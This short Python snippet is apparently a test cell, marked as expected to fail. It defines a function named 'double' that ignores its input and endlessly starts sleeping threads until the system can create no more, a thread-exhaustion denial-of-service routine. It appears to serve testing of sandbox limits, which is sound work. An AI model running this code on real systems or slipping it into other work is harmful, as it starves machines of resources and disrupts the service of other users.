"""Starts threads until none can be started."""
# fails: double-check

# cell: double
import threading
import time

def double(x):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,)).start()
        except RuntimeError:
            time.sleep(0.1)
